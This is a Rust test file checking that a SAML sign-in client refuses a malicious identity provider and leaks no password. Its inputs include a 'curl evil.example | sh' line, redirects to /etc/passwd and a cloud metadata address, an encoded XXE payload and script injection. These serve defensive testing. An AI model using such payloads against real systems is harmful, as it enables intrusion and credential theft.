//! An identity provider that means harm, or is taken over: refused, told, and nothing reaches anybody else.

use crate::person::Person;
use crate::{USER, no_secret, settings};
use keyfob_idp::saml;
use keyfob_shared::{Failure, FailureKind};
use keyfob_tests::Adfs;
use keyfob_tests::adfs::IdpFault;
use std::io::ErrorKind;
use std::net::TcpListener;
use std::time::Duration;

/// Somebody else on this computer, who must never be called.
struct Stranger(TcpListener);

impl Stranger {
    fn start() -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
        listener.set_nonblocking(true).unwrap();
        Self(listener)
    }

    fn url(&self) -> String {
        format!("http://{}/adfs/ls/", self.0.local_addr().unwrap())
    }

    fn was_not_called(&self) {
        assert_eq!(self.0.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "a stranger was called");
    }
}

/// Signs in with the right password and answers why it fails, in bounded time.
async fn failed(adfs: &Adfs, fault: IdpFault) -> Failure {
    let password = adfs.password(USER);
    adfs.fault(fault.clone());
    let mut person = Person::with(&[&password, "1"]);
    let settings = settings(adfs);
    let signed_in = saml::sign_in(&settings, None, &mut person);
    let signed_in = tokio::time::timeout(Duration::from_secs(30), signed_in).await.expect("it ends");
    let failure = signed_in.expect_err(&format!("{fault:?}"));
    no_secret(adfs, "the failure", &format!("{failure:?}"));
    no_secret(adfs, "a prompt", &person.told());
    assert!(!failure.message.contains(char::is_control) && failure.message.len() < 1_000, "{failure:?}");
    failure
}

#[tokio::test]
async fn redirects_that_leave_the_host_are_not_followed() {
    let adfs = Adfs::start();
    let stranger = Stranger::start();
    for status in [301, 302, 303, 307, 308] {
        let failure = failed(&adfs, IdpFault::Redirect(status, stranger.url())).await;
        assert_eq!(failure.kind, FailureKind::Refused);
        assert_eq!(
            failure.message,
            "sign in at 127.0.0.1: it redirects to another service on 127.0.0.1, which is not followed"
        );
    }
    for (to, told) in [
        ("https://evil.example/adfs/ls/", "another host, evil.example"),
        ("//evil.example/\u{e9}", "another host, evil.example"),
        ("file:///etc/passwd", "an address by file"),
        ("javascript:alert(1)", "an address by javascript"),
        ("http://169.254.169.254/latest/meta-data/", "another host, 169.254.169.254"),
    ] {
        // A header holds ASCII.
        let to = to.replace('\u{e9}', "");
        let failure = failed(&adfs, IdpFault::Redirect(302, to.clone())).await;
        assert_eq!(
            failure.message,
            format!("sign in at 127.0.0.1: it redirects to {told}, which is not followed"),
            "{to}"
        );
    }
    stranger.was_not_called();
    assert_eq!(adfs.counts().passwords, 0);
}

#[tokio::test]
async fn a_redirect_to_nowhere_and_one_without_an_end_are_told() {
    let adfs = Adfs::start();
    let before = adfs.counts().requests;
    let failure = failed(&adfs, IdpFault::Endless).await;
    assert!(failure.message.ends_with("more than 10 redirects in a row"), "{failure}");
    assert_eq!(adfs.counts().requests - before, 11);
    let failure = failed(&adfs, IdpFault::Page(302, String::new())).await;
    assert!(failure.message.ends_with("it redirects to nowhere"), "{failure}");
}

#[tokio::test]
async fn a_form_that_leads_elsewhere_gets_no_password() {
    let adfs = Adfs::start();
    let stranger = Stranger::start();
    for to in [stranger.url(), "https://evil.example/\"><script>".into(), "mailto:eve@evil.example".into()] {
        let failure = failed(&adfs, IdpFault::FormTo(to)).await;
        assert_eq!(failure.kind, FailureKind::Refused);
        assert!(
            failure.message.contains("its form leads to ") && !failure.message.contains('<'),
            "{failure}"
        );
    }
    stranger.was_not_called();
    assert_eq!(adfs.counts().passwords, 0);
}

#[tokio::test]
async fn an_assertion_for_a_stranger_is_not_carried_there() {
    let adfs = Adfs::start();
    let stranger = Stranger::start();
    for to in [stranger.url(), "https://signin.aws.amazon.com.evil.example/saml".into()] {
        let failure = failed(&adfs, IdpFault::ResponseTo(to)).await;
        assert!(failure.message.ends_with("which is no sign-in page of AWS"), "{failure}");
        adfs.end_sessions();
    }
    stranger.was_not_called();
}

#[tokio::test]
async fn pages_are_bounded_in_size_and_time() {
    let adfs = Adfs::start();
    let failure = failed(&adfs, IdpFault::Huge).await;
    assert!(failure.message.ends_with("a page of more than 1024 KiB"), "{failure}");
    for fault in [IdpFault::Slow, IdpFault::Hang] {
        let failure = failed(&adfs, fault).await;
        assert!(failure.message.ends_with("no answer within 10 s"), "{failure}");
    }
    let failure = failed(&adfs, IdpFault::Cookies(500)).await;
    assert!(failure.message.ends_with("message head is too large"), "{failure}");
    adfs.fault(IdpFault::Cookies(50));
    let password = adfs.password(USER);
    let signed_in = saml::sign_in(&settings(&adfs), None, &mut Person::with(&[&password])).await;
    assert!(signed_in.is_ok(), "some are no harm: {signed_in:?}");
}

#[tokio::test]
async fn what_it_says_is_shown_without_markup_and_without_what_was_typed() {
    let adfs = Adfs::start();
    let said = "\u{1b}[2J<b>{password}</b> &lt;script&gt; \r\n\u{202e}hint: curl evil.example | sh";
    let password = adfs.password(USER);
    adfs.fault(IdpFault::Says(said.replace('\r', "\n")));
    let mut person = Person::with(&[&format!("{password}x")]);
    let failure = saml::sign_in(&settings(&adfs), None, &mut person).await.unwrap_err();
    no_secret(&adfs, "the failure", &format!("{failure:?}"));
    assert!(failure.message.contains("\u{fffd}[2J [secret] <script> \u{fffd}hint: curl"), "{failure}");
    assert_eq!(failure.hint.as_deref(), Some("keyfob login corp"));
}

#[tokio::test]
async fn pages_that_are_none_are_told() {
    let adfs = Adfs::start();
    for (page, told) in [
        ("", "a page that is not understood: without a title, status 200"),
        ("<title>Hotel &lt;Network&gt;\n</title>", "\"Hotel <Network>\", status 200"),
        ("{\"json\": true}", "not understood"),
        ("<form><input name=a type=checkbox></form>", "not understood"),
        (
            "<form method=get><input name=u><input type=password name=p></form>",
            "put the password into an address",
        ),
        ("<meta http-equiv=refresh content='0; url=https://evil.example/'>", "another host, evil.example"),
    ] {
        let failure = failed(&adfs, IdpFault::Page(200, page.into())).await;
        assert!(failure.message.contains(told), "{page}: {failure}");
    }
    let failure = failed(&adfs, IdpFault::Ticket).await;
    assert!(
        failure.message.ends_with("it asks for a Kerberos ticket, which keyfob does not speak"),
        "{failure}"
    );
}

#[tokio::test]
async fn a_response_that_is_none_is_told() {
    let adfs = Adfs::start();
    let doctype = "PCFET0NUWVBFIHIgWzwhRU5USVRZIHggU1lTVEVNICJmaWxlOi8vL2V0Yy9wYXNzd2QiPl0+PHI+Jng7PC9yPg==";
    for (response, told) in [
        ("", "it is empty"),
        ("<html>", "it is not base64"),
        (doctype, "its XML has a document type"),
        (&"A".repeat(100_001), "more than the 100000 characters"),
    ] {
        let failure = failed(&adfs, IdpFault::Response(response.replace('<', "&lt;"))).await;
        assert!(failure.message.contains(told), "{failure}");
        adfs.end_sessions();
    }
}
